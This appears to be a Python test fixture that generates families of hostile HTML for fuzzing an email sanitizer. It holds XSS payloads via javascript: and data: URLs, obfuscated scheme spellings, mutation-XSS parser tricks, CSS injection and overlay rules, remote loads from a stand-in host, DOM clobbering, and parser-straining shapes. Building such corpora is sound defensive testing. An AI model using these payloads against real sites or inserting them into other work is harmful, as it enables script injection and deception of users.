"""More hostile pages, made by families: one trick each, in every place where a browser might fall for it.

Written for this project after what is publicly known of such tricks; nothing is copied from a list.
"""

from html import escape
from itertools import product
from urllib.parse import quote

RUN = "window.hit=(window.hit||0)+1"
FOREIGN = "https://hit.example/p"
_SCRIPT = f"<script>{RUN}</script>"
_IMAGE = f"<img src=x onerror={RUN}>"


def _schemes() -> list[str]:
    """Addresses that run: in every attribute that takes one."""
    places = (
        *("<a href='{}'>a</a>", "<area href='{}'>", "<form action='{}'><button>b</button></form>", "<base href='{}'>"),
        *("<button formaction='{}'>b</button>", "<input type=image src='{}'>", "<iframe src='{}'></iframe>"),
        *("<embed src='{}'>", "<object data='{}'></object>", "<img src='{}'>", "<img srcset='{} 1x'>"),
        *("<body background='{}'>", "<table background='{}'><tr><td>t</table>", "<link rel=stylesheet href='{}'>"),
        *("<video src='{}' autoplay></video>", "<audio src='{}' autoplay></audio>", "<video poster='{}'></video>"),
        *("<source src='{}'>", "<track src='{}'>", "<blockquote cite='{}'>t</blockquote>", "<a ping='{}' href=x>a</a>"),
        *("<svg><a href='{}'><text>t</text></a></svg>", "<math><mi href='{}'>t</mi></math>", "<frame src='{}'>"),
        *("<meta http-equiv=refresh content='0;url={}'>", "<div style='background:url({})'>t</div>"),
        *("<script src='{}'></script>", "<q cite='{}'>t</q>", "<html manifest='{}'>", "<img longdesc='{}' src=x>"),
    )
    addresses = (
        f"javascript:{RUN}",
        f"data:text/html,{quote(_SCRIPT)}",
        f"data:image/svg+xml,{quote(f'<svg xmlns=http://www.w3.org/2000/svg onload={RUN}></svg>')}",
        FOREIGN,
    )
    return [place.format(address) for place, address in product(places, addresses)]


def _spelt_schemes() -> list[str]:
    """One scheme, spelt so that a filter may not know it and a browser still does."""
    spellings = (
        *("JAVASCRIPT:", "jAvAsCrIpT:", " javascript:", "\tjavascript:", "\njavascript:", "\x00javascript:"),
        *("\x01javascript:", "\x1fjavascript:", "java\tscript:", "java\rscript:", "javascript\t:", "javascript :"),
        *("&#x6a;avascript:", "&#0000106avascript:", "&#106avascript:", "j&#97;vascript:", "java&Tab;script:"),
        *("java&NewLine;script:", "javascript&#58;", "javascript&#x0003A;", "&#x01;javascript:", "&#32;javascript:"),
        *("\u00a0javascript:", "\u2028javascript:", "\ufeffjavascript:", "javascript\uff1a", "java\u00adscript:"),
        *("java\u200bscript:", "ja\u017fvascript:", "javascr\u0131pt:", "livescript:", "mocha:", "vbscript:"),
        *("feed:javascript:", "view-source:javascript:", "jar:javascript:", "data:text/html;charset=utf-7,"),
        *("data:text/html;;,", "data:,x;text/html,", "DATA:text/html,", "x-javascript:", "about:blank#javascript:"),
        *("https:javascript:", "//javascript:", "\\\\hit.example\\", "http:\\\\hit.example\\", "https:/\\hit.example/"),
        *("mailto:x?%0d%0aBcc:hit@hit.example&", "tel:1;phone-context=", "cid:javascript:", "cid:../../"),
    )
    return [f'<a href="{one}{RUN}">a</a>' for one in spellings] + [f"<img src='{one}{RUN}'>" for one in spellings[:12]]


def _mutations() -> list[str]:
    """What is one tree when it is read and another when it has been written and is read again."""
    outers = (
        *(
            "svg",
            "math",
            "svg><foreignObject",
            "svg><desc",
            "svg><title",
            "math><mtext",
            "math><mi",
            "math><annotation-xml",
        ),
        *("math><annotation-xml encoding=text/html", "table><tr", "table><caption", "select", "form><form", "noscript"),
    )
    raws = ("style", "title", "textarea", "xmp", "noembed", "noframes", "iframe", "noscript", "script", "plaintext")
    nested = [f"<{outer}><{raw}><p title='</{raw}>{_IMAGE}'></{raw}>" for outer, raw in product(outers, raws)]
    comments = [
        *(f"<{outer}><!--<p title='-->{_IMAGE}'>" for outer in outers),
        *(f"<{outer}><![CDATA[<p title=']]>{_IMAGE}'>" for outer in outers),
        *(f"<{outer}><mglyph><style><!--</style><p title='--!>{_IMAGE}'>" for outer in outers),
    ]
    folded = [
        f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;{escape(_IMAGE)}'>",
        f"<form><math><mtext></form><form><mglyph><svg><mtext><style><path id='</style>{_IMAGE}'>",
        f"<svg></p><math></p><style><a title='</style>{_IMAGE}'>",
        f"<p><svg><p><style><b title='</style>{_IMAGE}'></p>",
        f"<a><svg><a><style><a title='</style>{_IMAGE}'>",
        f"<template><style></template><p title='</style>{_IMAGE}'>",
        f"<noscript><style></noscript>{_IMAGE}</style>",
        f"<table><td><svg><tr><style><td title='</style>{_IMAGE}'>",
        f"<b><table></b><style><p title='</style>{_IMAGE}'></table>",
        f"<nobr><nobr><nobr>{_IMAGE}</nobr>",
        f"<h1><h2></h1>{_IMAGE}</h2>",
        f"<option><p></option>{_IMAGE}",
        f"<dialog open>{_IMAGE}</dialog>",
        f"<ruby><rb><rtc><rt></ruby>{_IMAGE}",
        f"<frameset><noframes></frameset>{_IMAGE}</noframes>",
        f"<head></head><body></body></html>{_IMAGE}",
        f"<image src=x onerror={RUN}>",
        f"<isindex prompt='{_IMAGE}'>",
        f"<listing>&lt;img src=x onerror={RUN}&gt;</listing>",
        f"<br/onload={RUN}//><wbr/{_IMAGE}>",
    ]
    return nested + comments + folded


def _attributes() -> list[str]:
    """Ends of attributes and tags that a reader may see elsewhere than a browser does."""
    breaks = (
        *('"', "'", "`", "\x00", "\x0b", "\x0c", "\r", "/", "//", "=", "\\'", "&quot;", "&#34;", "&#x22", "\u2028"),
        *("\u00a0", "\u3000", "<", ">", "-->", "]]>", "?>", "%22", "\\x22", "+"),
    )
    return [
        *(f"<p title={mark}{mark}onmouseover={RUN}{mark}>t</p>" for mark in breaks),
        *(f"<img alt='{mark} onerror={RUN} x={mark}' src=x>" for mark in breaks if mark != "'"),
        *(f"<img src=x{mark}onerror={RUN}>" for mark in breaks),
        *(f"<im{mark}g src=x onerror={RUN}>" for mark in ("\x00", "\u200b", "/", "&#x67;")),
    ]


def _styles() -> list[str]:
    """Rules and declarations that load, run, cover or read."""
    loads = (
        *(
            "url(U)",
            "url( U )",
            "url('U')",
            'url("U")',
            "URL(U)",
            "u\\72 l(U)",
            "\\000075rl(U)",
            "url\\28 U)",
            "src('U')",
        ),
        *("image(U)", "image-set(url(U) 1x)", "-webkit-image-set('U' 1x)", "cross-fade(url(U),red,50%)", "element(#x)"),
        *("paint(U)", "var(--u)", "attr(title url)", "env(U,url(U))", "expression(RUN)", "expr/**/ession(RUN)"),
        *("e\\78pression(RUN)", "\\65 xpression(RUN)", "progid:DXImageTransform.Microsoft.AlphaImageLoader(src='U')"),
    )
    values = [one.replace("U", FOREIGN).replace("RN", "RUN").replace("RUN", RUN) for one in loads]
    names = ("background", "background-image", "list-style-image", "border-image-source", "cursor", "content", "mask")
    inline = [f"<div style='{name}:{value}'>t</div>".replace("''", "'") for name, value in product(names[:2], values)]
    sheets = [f"<style>p{{{name}:{value}}}</style><p>t</p>" for name, value in product(names[2:], values[:6])]
    rules = (
        *("@import 'U';", "@import url(U) screen;", "@\\69mport 'U';", "@namespace x 'U';", "@charset 'utf-7';"),
        *("@font-face{font-family:x;src:url(U)}p{font-family:x}", "@media all{p{background:url(U)}}"),
        *("@supports(color:red){p{background:url(U)}}", "@page{background:url(U)}", "@layer x{p{background:url(U)}}"),
        *(
            "@container(width>0){p{background:url(U)}}",
            "@scope(p){:scope{background:url(U)}}",
            "p{&{background:url(U)}}",
        ),
        *(
            "@property --x{syntax:'<url>';inherits:true;initial-value:url(U)}",
            "p{animation:x 1s}@keyframes x{to{background:url(U)}}",
        ),
        *(
            "p[title^=a]{background:url(U)}",
            "p:has(a){background:url(U)}",
            "p::before{content:url(U)}",
            "*{background:url(U)}",
        ),
        *(":root{--u:url(U)}p{background:var(--u)}", "p{background:url(U", "p{color:red;}}</style>IMG<style>"),
        *(
            "<!--p{background:url(U)}-->",
            "/*</style>IMG*/p{color:red}",
            "p{content:'</style>IMG'}",
            'p{content:"\\\n</style>IMG"}',
        ),
        *(
            "html{position:fixed}body{display:none}",
            "main{position:fixed;inset:0;z-index:9}",
            ".sm-remark{display:none}",
        ),
        *(
            ".sm-held,.sm-mail{position:fixed;inset:0}",
            "iframe{display:none}",
            "a{position:absolute;inset:0}",
            "p{behavior:url(U)}",
        ),
        *(
            "p{-moz-binding:url(U#x)}",
            "p{filter:url(U#x)}",
            "p{clip-path:url(U#x)}",
            "p{shape-outside:url(U)}",
            "p{offset-path:url(U)}",
        ),
    )
    written = [one.replace("IMG", _IMAGE).replace("U", FOREIGN) for one in rules]
    covers = (
        *("position:fixed;inset:0;z-index:99999;background:#fff", "position:absolute;top:-9999px", "margin:-9999px"),
        *(
            "transform:scale(99)",
            "zoom:99",
            "width:99999px;height:99999px",
            "font-size:9999px",
            "opacity:0",
            "float:left",
        ),
        *("position:sticky;top:0", "display:none", "visibility:hidden", "white-space:nowrap;letter-spacing:99px"),
        *(
            "line-height:9999",
            "text-indent:-9999px",
            "border:9999px solid red",
            "padding:9999px",
            "direction:rtl;unicode-bidi:bidi-override",
        ),
    )
    return [
        *inline,
        *sheets,
        *(f"<style>{one}</style><p title=ab><a href=x>t</a></p>" for one in written),
        *(f"<div style='{one}'>t</div>" for one in covers),
        *(f"<style>p{{{one}}}</style><p>t</p>" for one in covers),
    ]


def _loads() -> list[str]:
    """Elements that fetch by being there."""
    pieces = (
        *(f"<link rel={rel} href=U>" for rel in ("preload as=image", "modulepreload", "prerender", "preconnect")),
        *(f"<link rel={rel} href=U>" for rel in ("icon", "manifest", "import", "alternate stylesheet", "pingback")),
        "<picture><source srcset='U 1x' media=all><img src=x></picture>",
        "<picture><source srcset=U type=image/webp></picture>",
        "<img src=x srcset='x 1w, U 2w' sizes=100vw>",
        "<img src=https://hit.example/a.png width=1 height=1>",
        "<img src=http://hit.example/a.png style=display:none>",
        "<img loading=lazy src=U><img fetchpriority=high src=U>",
        "<video controls><source src=U><track default src=U></video>",
        "<audio controls><source src=U></audio>",
        "<object type=image/png data=U>t</object>",
        "<object><param name=movie value=U></object>",
        "<embed type=text/html src=U>",
        "<applet archive=U code=x></applet>",
        "<iframe srcdoc=\"<img src='U'>\"></iframe>",
        "<fencedframe src=U></fencedframe>",
        "<svg><image href=U /></svg>",
        "<svg><use href='U#x'/></svg>",
        "<svg><feImage href=U /></svg>",
        "<svg><style>@import 'U'</style></svg>",
        "<svg><script href=U /></svg>",
        "<?xml-stylesheet href='U'?>",
        "<!DOCTYPE html SYSTEM 'U'>",
        "<!DOCTYPE x [<!ENTITY e SYSTEM 'U'>]><p>&e;</p>",
        "<html xmlns:v='urn:schemas-microsoft-com:vml'><v:imagedata src=U>",
        "<v:fill src=U><o:OLEObject ProgID=x data=U>",
        "<!--[if mso]><img src=U><![endif]-->",
        "<!--[if gte mso 9]><xml><o:x src=U /></xml><![endif]-->",
        "<![if !mso]><img src=U><![endif]>",
        "<!--[if IE]><script src=U></script><![endif]-->",
        "<input type=image src=U><input type=file autofocus>",
        "<menu><menuitem icon=U>",
        "<meta http-equiv=Link content='<U>; rel=preload'>",
        "<meta http-equiv=Content-Security-Policy content='img-src *'>",
        "<meta name=referrer content=unsafe-url><a href='https://ct.gov/'>a</a>",
        "<meta http-equiv=Set-Cookie content='safemail=hit'>",
        "<meta charset=utf-7>+ADw-img src+AD0-U+AD4-",
        "<base target=_top href=U><a href=x>a</a>",
    )
    return [piece.replace("U", FOREIGN) for piece in pieces]


def _names() -> list[str]:
    """Names that stand in for those of the page around, or of the document itself."""
    taken = (
        *("main", "csrf", "body", "document", "location", "cookie", "forms", "parent", "top", "self", "name", "origin"),
        *("getElementById", "querySelector", "addEventListener", "session-dialog", "session-title", "details", "files"),
        *("move-one", "folder", "m", "do", "to", "__proto__", "constructor", "attributes", "firstChild", "innerHTML"),
    )
    return [
        *(f"<p id={name} class={name}>t</p><a name={name} href='https://ct.gov/'>a</a>" for name in taken),
        *(f"<form name={name}><input name={name} id={name} value=hit></form>" for name in taken[:12]),
        *(f"<iframe name={name} src=about:blank></iframe>" for name in taken[:8]),
        "<img name=body src=x><img id=head src=x><embed name=forms>",
        "<a id=config></a><a id=config name=url href='https://hit.example/'></a>",
        "<p class='sm-mail sm-held sm-remark sm-plain'>t</p>",
        "<p slot=x is=x-y part=z exportparts=z contenteditable>t</p>",
    ]


def _shapes() -> list[str]:
    """Big, deep and broken ones."""
    return [
        *(f"<{tag}>" * 300 for tag in ("b", "font", "blockquote", "ul><li", "table><tr><td", "center", "a", "span")),
        "<div>" * 10_000,
        "<b>" * 10_000 + "t",
        "<table>" * 10_000,
        "<p>" * 10_000,
        "<li>" * 10_000,
        "</div>" * 10_000,
        "<table><tr>" + "<td>x" * 5_000,
        "<table>" + "<tr><td>x" * 5_000,
        "<td colspan=99999 rowspan=99999>x" * 50,
        "<table><td colspan=1000 rowspan=65534>x",
        "<font size=99999>x</font><hr width=99999 size=99999>",
        "<img src=x width=999999 height=999999 alt=x>",
        "<p " + "title=x " * 5_000 + ">t",
        "<p " + " ".join(f"a{n}=x" for n in range(5_000)) + ">t",
        "<p title='" + "x" * 100_000 + "'>t",
        "x" * 100_000,
        "\u200b" * 10_000 + "t",
        "\u202e" + "gnitirw desrever" + "\u202d" * 500,
        "a\u0301" + "\u0301" * 5_000,
        "&amp;" * 20_000,
        "&" * 20_000,
        "<" * 20_000,
        "<a" * 10_000,
        "<!--" * 10_000,
        "<!" * 10_000 + ">",
        "<a href='" + "x" * 50_000,
        "\x00" * 5_000 + "<b>t</b>",
        "<\x00s\x00c\x00r\x00i\x00p\x00t>" + RUN + "</script>",
        "\ufeff<script>" + RUN + "</script>",
        "<scr\u0130pt>" + RUN + "</scr\u0130pt>",
        "<\uff53cript>" + RUN + "</\uff53cript>",
        "\u02c2script\u02c3" + RUN + "\u02c2/script\u02c3",
        "\\x3cscript\\x3e" + RUN,
        "%3Cscript%3E" + RUN + "%3C/script%3E",
        "&amp;lt;script&amp;gt;" + RUN,
        "&lt;img src=x onerror=" + RUN + "&gt;",
        "{{constructor.constructor('" + RUN + "')()}}",
        "<div v-html='x' ng-app ng-csp x-data='" + RUN + "'>{{7*7}}${7*7}#{7*7}<%= 7*7 %></div>",
        "<x-app hx-get='" + FOREIGN + "' hx-trigger=load data-bind='x:" + RUN + "'>t</x-app>",
        "<div popover=auto>t</div><button popovertarget=x commandfor=x command=show-modal>b</button>",
        "<object><object><object>" * 100 + _IMAGE,
        "<o:p></o:p><w:WordDocument><w:View>Normal</w:View></w:WordDocument>" + _SCRIPT,
        "<p class=MsoNormal style='mso-bidi-font-family:x;mso-special-character:line-break;tab-stops:list 1in'>t</p>",
    ]


FAMILIES: dict[str, list[str]] = {
    "schemes": _schemes(),
    "spelt": _spelt_schemes(),
    "mutations": _mutations(),
    "attributes": _attributes(),
    "styles": _styles(),
    "loads": _loads(),
    "names": _names(),
    "shapes": _shapes(),
}
